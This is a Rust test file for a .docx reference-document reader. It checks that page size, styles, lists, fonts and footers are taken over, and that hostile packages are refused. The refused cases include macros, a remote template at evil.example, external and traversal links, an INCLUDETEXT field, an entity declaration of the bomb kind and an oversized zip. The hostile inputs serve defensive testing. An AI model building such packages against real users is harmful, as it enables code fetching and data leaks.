//! References: what is taken of them, and what is refused.

use super::*;

/// The parts of a reference, which a case changes.
type Files = Vec<(String, String)>;

/// The built-in reference with a header, a style of its own and another page.
fn sound() -> Files {
    let of = |name: &str| {
        let written =
            unpack(write(&super::of(Vec::new(), "T"), Words::English, Reference::built_in())).unwrap();
        written.read(name).unwrap()
    };
    let files = [
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/styles.xml",
        "word/numbering.xml",
        "word/settings.xml",
        "word/fontTable.xml",
        "word/theme/theme1.xml",
        "word/around1.xml",
    ];
    files.map(|name| (name.to_owned(), of(name))).into()
}

fn put(files: &mut Files, name: &str, content: &str) {
    files.retain(|(known, _)| known != name);
    files.push((name.to_owned(), content.to_owned()));
}

fn change(files: &mut Files, name: &str, from: &str, to: &str) {
    let (_, content) = files.iter_mut().find(|(known, _)| known == name).unwrap();
    assert!(content.contains(from), "{from}\nis not in\n{content}");
    *content = content.replace(from, to);
}

fn read(files: &Files) -> Result<Reference, Refused> {
    Reference::read(zipped(files.iter().map(|(name, content)| (name.as_str(), content.as_bytes()))))
}

const RELATIONSHIPS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn related(kind: &str, target: &str, more: &str) -> String {
    format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
         <Relationship Id=\"x\" Type=\"{RELATIONSHIPS}/{kind}\" Target=\"{target}\"{more}/></Relationships>"
    )
}

/// A picture of one pixel, as far as it is looked at.
const PICTURE: &str = "GIF89a\u{1}\0\u{1}\0";

const EXTERNAL: &str = " TargetMode=\"External\"";

#[test]
fn the_built_in_one_can_be_read() {
    let page = Reference::built_in().page.section(false);
    assert!(page.contains("w:w=\"11906\" w:h=\"16838\"") && page.contains("footerReference"), "{page}");
}

#[test]
fn a_reference_gives_its_looks() {
    let mut files = sound();
    change(&mut files, "word/document.xml", "w:w=\"11906\" w:h=\"16838\"", "w:w=\"12240\" w:h=\"15840\"");
    // A German Word has other ids under the same names; a style that it lacks is added.
    change(&mut files, "word/styles.xml", "w:styleId=\"Heading1\"", "w:styleId=\"berschrift1\"");
    change(
        &mut files,
        "word/styles.xml",
        "<w:name w:val=\"Source Code\"/>",
        "<w:name w:val=\"Something else\"/>",
    );
    change(&mut files, "word/styles.xml", "w:val=\"15355C\"", "w:val=\"AA0000\"");
    // Its headings count, and ours have their numbers.
    let counting = "<w:pPr><w:numPr><w:numId w:val=\"1\"/></w:numPr>";
    let (start, rest) = files
        .iter()
        .find(|(name, _)| name == "word/styles.xml")
        .unwrap()
        .1
        .split_once("berschrift1")
        .unwrap();
    let styles = format!("{start}berschrift1{}", rest.replacen("<w:pPr>", counting, 1));
    put(&mut files, "word/styles.xml", &styles);
    change(&mut files, "word/around1.xml", "Page ", "Seite ");
    put(&mut files, "word/_rels/around1.xml.rels", &related("image", "/word/media/logo.gif", ""));
    put(&mut files, "word/media/logo.gif", PICTURE);
    let reference = read(&files).unwrap();
    let document = super::of(parse::document("# T\n\n## A\n\n```\ncode\n```\n\n1. a", &[]), "A & B");
    let written = write(&document, Words::English, &reference);
    assert_eq!(written, write(&document, Words::English, &reference));
    let made = unpack(written).unwrap();
    let body = made.read("word/document.xml").unwrap();
    for expected in [
        "w:w=\"12240\" w:h=\"15840\"",
        "<w:pStyle w:val=\"berschrift1\"/>",
        "<w:pStyle w:val=\"SourceCodeTender\"/>",
        "<w:numId w:val=\"0\"/>",
    ] {
        assert!(body.contains(expected), "{expected}\nis not in\n{body}");
    }
    let styles = made.read("word/styles.xml").unwrap();
    assert!(styles.contains("AA0000") && styles.contains("w:styleId=\"SourceCodeTender\""), "{styles}");
    let footer = made.read("word/around1.xml").unwrap();
    assert!(footer.contains("Seite ") && footer.contains("A &amp; B"), "{footer}");
    assert!(made.read("word/_rels/around1.xml.rels").unwrap().contains("/word/media/reference1.gif"));
    assert_eq!(made.read("word/media/reference1.gif").unwrap(), PICTURE);
    // What is made can be a reference again.
    let again = read(
        &made
            .list()
            .unwrap()
            .into_iter()
            .filter(|name| !name.contains("/media/figure"))
            .map(|name| (name.clone(), made.read(&name).unwrap()))
            .collect(),
    );
    assert!(again.is_ok(), "{again:?}");
}

#[test]
fn lists_of_a_reference_are_taken_or_completed() {
    let numbering = |files: &Files| read(files).unwrap().numbering.written(&[(0, 1)]);
    // One level is too few for lists within lists.
    let mut files = sound();
    let one = "<w:numbering xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
               <w:abstractNum w:abstractNumId=\"5\"><w:lvl w:ilvl=\"0\"/></w:abstractNum>\
               <w:num w:numId=\"1\"><w:abstractNumId w:val=\"5\"/></w:num></w:numbering>";
    put(&mut files, "word/numbering.xml", one);
    let found = numbering(&files);
    assert!(found.contains("w:abstractNumId=\"6\"") && found.contains("w:numId=\"3\""), "{found}");
    assert!(found.rfind("</w:abstractNum>") < found.find("<w:num "), "{found}");
    // Without the part, the built-in one.
    let mut files = sound();
    change(
        &mut files,
        "word/_rels/document.xml.rels",
        "/numbering\" Target=\"/word/numbering.xml\"",
        "/other\" Target=\"/word/none.xml\"",
    );
    assert!(numbering(&files).contains("<w:num w:numId=\"3\">"));
}

#[test]
fn fonts_and_theme_of_a_reference_are_taken_or_completed() {
    #[track_caller]
    fn check(alter: impl FnOnce(&mut Files), expected: &[(&str, &str, bool)]) {
        let mut files = sound();
        alter(&mut files);
        let (parts, relations) = read(&files).unwrap().written("T", "en", &[]);
        for (name, text, there) in expected {
            let part = parts.iter().find(|part| part.name == *name).unwrap();
            let content = String::from_utf8_lossy(&part.bytes);
            assert_eq!(content.contains(text), *there, "{text}\nin\n{content}");
            assert!(
                relations.iter().any(|relation| relation.target == *name),
                "{name} is related to nothing"
            );
        }
        assert!(parts.iter().all(|part| !part.name.ends_with(".odttf")));
    }
    let (fonts, theme) = ("word/fontTable.xml", "word/theme/theme1.xml");
    check(
        |files| {
            let own = "<w:font w:name=\"Letterhead\"><w:family w:val=\"roman\"/><w:embedRegular r:id=\"x\"/>\
                       <w:embedBold r:id=\"x\"></w:embedBold></w:font><w:font w:name=\"Consolas\">";
            change(files, fonts, "<w:font w:name=\"Consolas\">", own);
            put(files, "word/_rels/fontTable.xml.rels", &related("font", "fonts/font1.odttf", ""));
            put(files, "word/fonts/font1.odttf", "letters");
            change(files, theme, "15355C", "AA0000");
        },
        &[
            (fonts, "<w:font w:name=\"Letterhead\"><w:family w:val=\"roman\"/></w:font>", true),
            (fonts, "w:embed", false),
            (theme, "AA0000", true),
        ],
    );
    // Without the parts, the built-in ones.
    check(
        |files| {
            for (kind, name) in [("fontTable", fonts), ("theme", theme)] {
                let from = format!("/{kind}\" Target=\"/{name}\"");
                change(files, "word/_rels/document.xml.rels", &from, "/other\" Target=\"/word/none.xml\"");
            }
        },
        &[(fonts, "w:name=\"Consolas\"", true), (theme, "15355C", true)],
    );
}

#[track_caller]
fn refused(alter: impl FnOnce(&mut Files), expected: &str) {
    let mut files = sound();
    alter(&mut files);
    let found = read(&files).err().map(|why| why.to_string()).unwrap_or_default();
    assert!(found.starts_with(expected) && !found.is_empty(), "{found}");
}

#[test]
fn what_runs_or_fetches_is_refused() {
    refused(
        |files| {
            change(
                files,
                "[Content_Types].xml",
                "wordprocessingml.document.main+xml",
                "document.macroEnabled.main+xml",
            )
        },
        "it has macros: ",
    );
    refused(|files| put(files, "word/vbaProject.bin", "x"), "it has macros: ");
    refused(
        |files| {
            put(
                files,
                "word/_rels/settings.xml.rels",
                &related("attachedTemplate", "https://evil.example/a.dotm", EXTERNAL),
            )
        },
        "`word/_rels/settings.xml.rels` in it names a template that it is attached to",
    );
    refused(
        |files| change(files, "word/settings.xml", "<w:zoom", "<w:attachedTemplate/><w:zoom"),
        "`word/settings.xml` in it names a template that it is attached to",
    );
    let out = "`word/_rels/around1.xml.rels` in it leads out of it, to `https://evil.example/a.png`";
    for kind in ["image", "hyperlink", "oleObject"] {
        refused(
            |files| {
                put(
                    files,
                    "word/_rels/around1.xml.rels",
                    &related(kind, "https://evil.example/a.png", EXTERNAL),
                )
            },
            out,
        );
    }
    let image = format!(
        "<Relationship Id=\"x\" Type=\"{RELATIONSHIPS}/image\" Target=\"file:///a.png\"{EXTERNAL}/></Relationships>"
    );
    refused(
        |files| change(files, "word/_rels/document.xml.rels", "</Relationships>", &image),
        "`word/_rels/document.xml.rels` in it leads out of it",
    );
    refused(
        |files| put(files, "word/_rels/around1.xml.rels", &related("oleObject", "embeddings/a.bin", "")),
        "`word/around1.xml` in it holds `word/embeddings/a.bin`",
    );
    refused(
        |files| put(files, "word/_rels/around1.xml.rels", &related("image", "../../../a.png", "")),
        "`word/_rels/around1.xml.rels` in it leads out of it",
    );
    refused(
        |files| change(files, "word/around1.xml", " NUMPAGES ", " INCLUDETEXT x "),
        "`word/around1.xml` in it has a field `INCLUDETEXT`",
    );
}

#[test]
fn what_is_no_document_is_refused() {
    let words =
        |bytes: &[u8]| Reference::read(bytes.to_vec()).err().map(|why| why.to_string()).unwrap_or_default();
    assert!(words(b"text").starts_with("it is no zip archive"));
    assert!(words(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1]).starts_with("it is a document of an older Word"));
    assert_eq!(words(&zipped([("a.txt", &b"a"[..])])), "it is no Word document (.docx)");
    assert!(words(&zipped([("a", &[0; 3 * 1024 * 1024][..])])).contains("100 times as large"));
    refused(
        |files| files.retain(|(name, _)| name != "word/styles.xml"),
        "`word/styles.xml` in it cannot be read",
    );
    refused(|files| put(files, "word/styles.xml", "<w:styles"), "`word/styles.xml` in it is not well-formed");
    refused(
        |files| change(files, "word/styles.xml", "wordprocessingml/2006/main", "strict"),
        "it is written in another variant",
    );
    refused(
        |files| change(files, "word/document.xml", "w:w=\"11906\"", "w:w=\"99999999999\""),
        "`word/document.xml` in it has no page",
    );
    refused(
        |files| change(files, "word/document.xml", "w:left=\"794\"", "w:left=\"11134\""),
        "`word/document.xml` in it has no page",
    );
    let bomb = "<!DOCTYPE a [<!ENTITY b \"bbbb\">]><w:ftr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">&b;</w:ftr>";
    refused(|files| put(files, "word/around1.xml", bomb), "`word/around1.xml` in it has a document type");
}
